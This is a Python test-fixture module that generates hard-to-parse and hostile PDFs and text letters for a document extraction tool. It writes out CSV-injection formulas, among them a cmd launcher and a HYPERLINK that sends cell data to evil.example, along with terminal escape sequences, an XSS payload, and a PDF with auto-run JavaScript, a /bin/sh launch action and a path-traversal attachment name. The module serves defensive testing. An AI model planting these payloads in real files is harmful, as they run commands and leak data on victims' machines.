"""PDFs whose text is hard to get at, and letters whose text is an attack."""

from __future__ import annotations

import math
import re
from string import ascii_letters

from samples.nasty.base import (
    document,
    edit,
    edit_pages,
    letter_pdf,
    letter_text,
    pages,
    sample_pdf,
    sheet_of,
    with_headings,
)
from samples.pdf import Pdf, literal
from samples.posted import set_posted
from samples.word import FACES, WIDTHS, to_document, to_pdf

ESCAPES = "\x1b[31mMRI\x1b[0m of the \x1b]8;;http://evil.example\x07spine\x1b]8;;\x07 \x9b2J"
MARKUP = "[red]MRI[/red] of the [link=file:///etc/passwd]spine[/link] [/] [bold"
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"MRI")',
)
HTML = "<script>alert(1)</script> & <img src=x onerror=alert(2)> MRI"


def type3_fonts() -> bytes:
    """A letter in Type3 fonts, whose glyphs are boxes named after their letters."""
    pdf, root = document(font_object=_type3)
    return pdf.write(root)


def _type3(pdf: Pdf, font: str) -> int:
    box = pdf.stream(b"500 0 0 0 400 600 d1 0 0 400 600 re f")
    boxes = "".join(f"/{letter} {box} 0 R" for letter in ascii_letters)
    return pdf.add(
        f"<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[.001 0 0 .001 0 0]"
        f"/FirstChar 32/LastChar 255/Widths[{' '.join(map(str, WIDTHS[font]))}]/Resources<<>>"
        f"/Encoding/WinAnsiEncoding/CharProcs<<{boxes}>>>>"
    )


def filled_form() -> bytes:
    """A page without type but for what stands in a field that was filled in."""
    pdf = Pdf()
    font = pdf.add("<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>")
    look = pdf.stream(
        b"BT /F1 12 Tf 2 5 Td (Filled in by hand) Tj ET",
        f"/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</F1 {font} 0 R>>>>",
    )
    field = pdf.add(
        "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/V(Filled in by hand)/F 4"
        f"/Rect[72 700 272 720]/AP<</N {look} 0 R>>>>"
    )
    parent = pdf.reserve()
    page = pdf.add(
        f"<</Type/Page/Parent {parent} 0 R/MediaBox[0 0 612 792]/Resources<<>>"
        f"/Annots[{field} 0 R]>>"
    )
    pdf.put(parent, f"<</Type/Pages/Count 1/Kids[{page} 0 R]>>")
    return pdf.write(pdf.add(f"<</Type/Catalog/Pages {parent} 0 R>>"))


def only_spaces() -> bytes:
    """A page with type that says nothing."""
    font = next(iter(FACES))
    pdf, root = to_document([[f"BT /{font} 11 Tf 72 700 Td (   ) Tj ET"]])
    return pdf.write(root)


def no_to_unicode() -> bytes:
    """A letter in codes of its own, whose fonts name their glyphs g0, g1 ... and no more."""
    coded = [[_STRING.sub(_coded, operators) for operators in page] for page in pages()]
    pdf, root = to_document(coded, _nameless)
    return pdf.write(root)


_STRING = re.compile(r"\((?:[^\\()]|\\.)*\)")
_SHIFT = 41


def _coded(match: re.Match[str]) -> str:
    text = re.sub(r"\\(.)", r"\1", match[0][1:-1])
    return literal("".join(chr(32 + (ord(char) - 32 + _SHIFT) % 95) for char in text))


def _nameless(pdf: Pdf, font: str) -> int:
    names = "".join(f"/g{code}" for code in range(95))
    widths = [WIDTHS[font][(code - _SHIFT) % 95] for code in range(95)]
    descriptor = pdf.add(
        f"<</Type/FontDescriptor/FontName/ABCDEF+Unknown{font}/Flags 4/ItalicAngle 0/Ascent 891"
        "/Descent -216/CapHeight 693/StemV 40/FontBBox[-568 -216 2000 693]>>"
    )
    return pdf.add(
        f"<</Type/Font/Subtype/Type1/BaseFont/ABCDEF+Unknown{font}/FirstChar 32/LastChar 126"
        f"/Widths[{' '.join(map(str, widths))}]/FontDescriptor {descriptor} 0 R"
        f"/Encoding<</Type/Encoding/Differences[32{names}]>>>>"
    )


def rotated(degrees: int) -> bytes:
    """A letter that displays turned: its pages were marked as rotated."""
    pdf, root = document()
    edit_pages(pdf, "/Type/Page/", f"/Type/Page/Rotate {degrees}/")
    return pdf.write(root)


def turned(degrees: int) -> bytes:
    """A letter that displays upright, though its content lies turned on turned pages."""
    angle = math.radians(degrees)
    cos, sin = round(math.cos(angle)), round(math.sin(angle))
    wide, high = (792, 612) if degrees % 180 else (612, 792)
    dx = (792 if degrees == 90 else 612) if degrees in {90, 180} else 0
    dy = (612 if degrees == 270 else 792) if degrees in {180, 270} else 0
    matrix = f"q {cos} {sin} {-sin} {cos} {dx} {dy} cm\n"
    pdf, root = to_document([[matrix, *page, "Q\n"] for page in pages()])
    edit_pages(pdf, "/MediaBox[0 0 612 792]", f"/Rotate {degrees}/MediaBox[0 0 {wide} {high}]")
    return pdf.write(root)


def javascript_and_attachments() -> bytes:
    """A letter that would run a script, launch a program and unpack another PDF."""
    pdf, _ = document()
    script = pdf.add(f"<</S/JavaScript/JS{literal('app.alert(1);')}>>")
    launch = pdf.add(f"<</S/Launch/F{literal('/bin/sh')}>>")
    inner = pdf.stream(sample_pdf("expedited"), "/Type/EmbeddedFile")
    spec = pdf.add(f"<</Type/Filespec/F{literal('../../evil.pdf')}/EF<</F {inner} 0 R>>>>")
    parent = next(n for n, body in enumerate(pdf.objects, 1) if b"/Type/Pages" in body)
    root = pdf.add(
        f"<</Type/Catalog/Pages {parent} 0 R/OpenAction {script} 0 R/AA<</WC {launch} 0 R>>"
        f"/Names<</JavaScript<</Names[{literal('a')} {script} 0 R]>>"
        f"/EmbeddedFiles<</Names[{literal('a')} {spec} 0 R]>>>>>>"
    )
    return pdf.write(root)


def form_xobject_text() -> bytes:
    """A letter whose pages only draw form XObjects, which hold the text."""
    pdf, root = document()
    for number, body in enumerate(list(pdf.objects), 1):
        if b"/Type/Page/" not in body:
            continue
        fonts = body[body.index(b"/Font<<") : body.index(b">>", body.index(b"/Font<<")) + 2]
        contents = body[body.rindex(b"/Contents ") + 10 : body.rindex(b" 0 R")].decode()
        head, _, rest = pdf.objects[int(contents) - 1].partition(b"<<")
        form = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<<" + fonts + b">>"
        pdf.put(int(contents), head + b"<<" + form + rest)
        draw = pdf.stream(b"q /X0 Do Q")
        page = body.replace(fonts, fonts + f"/XObject<</X0 {contents} 0 R>>".encode())
        pdf.put(
            number, page.replace(f"/Contents {contents} ".encode(), f"/Contents {draw} ".encode())
        )
    return pdf.write(root)


def form_xobject_loop() -> bytes:
    """A letter with a form XObject that draws itself."""
    pdf, root = document()
    form = pdf.reserve()
    pdf.put(
        form,
        f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X0 {form} 0 R>>>>"
        "/Length 6>>\nstream\n/X0 Do\nendstream",
    )
    extra = pdf.stream(b"/X0 Do")
    edit_pages(pdf, "/ProcSet", f"/XObject<</X0 {form} 0 R>>/ProcSet")
    edit(pdf, "/Type/Page/", "/Contents ", f"/Contents[{extra} 0 R ")
    edit_pages(pdf, " 0 R>>", " 0 R]>>")
    return pdf.write(root)


def terminal_escapes() -> bytes:
    """A letter as text whose heading would colour the terminal, plant a link and clear it."""
    return letter_text(with_headings("HEADING")).replace("HEADING", ESCAPES).encode()


def nul_bytes() -> bytes:
    """A letter as text with a zero byte in its heading."""
    return letter_text(with_headings("HEADING")).replace("HEADING", "MRI\0 of the spine").encode()


def terminal_escapes_pdf() -> bytes:
    """The same in a PDF, where a font maps two visible codes to ESC and BEL."""
    heading = "§[31mMRI of the ¶spine"
    pdf, root = to_document(set_posted(with_headings(heading))[0].pages)
    cmap = (
        b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap /CMapName/Evil def "
        b"1 begincodespacerange <00> <FF> endcodespacerange "
        b"1 beginbfrange <20> <7E> <0020> endbfrange "
        b"2 beginbfchar <A7> <001B> <B6> <0007> endbfchar endcmap end end"
    )
    mapping = pdf.stream(cmap)
    for face, *_ in FACES.values():
        edit(
            pdf,
            "/Type/Font/",
            f"/BaseFont/{face}/",
            f"/ToUnicode {mapping} 0 R/BaseFont/{face}/",
        )
    return pdf.write(root)


def rich_markup() -> bytes:
    """A letter whose heading is markup of the library that prints tables."""
    return letter_pdf(with_headings(MARKUP))


def csv_injection() -> bytes:
    """A letter whose requests are spreadsheet formulas."""
    return letter_text(with_headings(*FORMULAS)).encode()


def html_injection() -> bytes:
    """A letter whose heading is a script."""
    return letter_pdf(with_headings(HTML))


def invoice() -> bytes:
    """A PDF of something else, with words that letters have too."""
    lines = [
        "Acme Invented Supplies",
        "Invoice 2017-0042                       Date: 02/08/2017",
        "Priority: Standard",
        "Qty   Description                      Price",
        "2     Copier paper, Letter size        11.80",
        "1     Decision tree poster: framed     49.00",
        "Total due within 30 days               60.80",
    ]
    return to_pdf(sheet_of(lines), title="Invoice", date="D:20170208000000Z")


def blank_pages() -> bytes:
    """Three pages with nothing on them."""
    pdf, root = to_document([[], [], []])
    return pdf.write(root)
